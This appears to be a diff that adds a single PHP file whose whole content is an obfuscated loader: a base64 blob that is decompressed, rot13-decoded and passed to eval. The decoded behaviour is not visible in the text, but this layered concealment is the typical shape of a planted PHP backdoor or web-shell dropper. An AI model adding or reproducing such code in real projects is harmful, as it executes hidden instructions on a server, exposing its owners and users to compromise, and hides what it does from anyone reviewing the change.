@@ -1,0 +1,1 @@
+<?php $_F=__FILE__;$_X='eJwFwdsOgiAAANDPUZ+8ocv1RJpgWc7coPXSJC+pAxWzSV/fObITSv/wb7ko0Up9FI30wXOWE5ulrmHr5ySpcoNucYMyhknDXjit7DaYo29k9nnvZ9MC75NLrBqFCBZxXJzsth+HSp35CBjHJeXAJjW+EGcbDhQ/vBAoiDaTHjHLKUSywx4ZdplYgVi9W1iY6L2mV80wjP0f91Q0RA==';eval(str_rot13(gzuncompress(base64_decode($_X))));
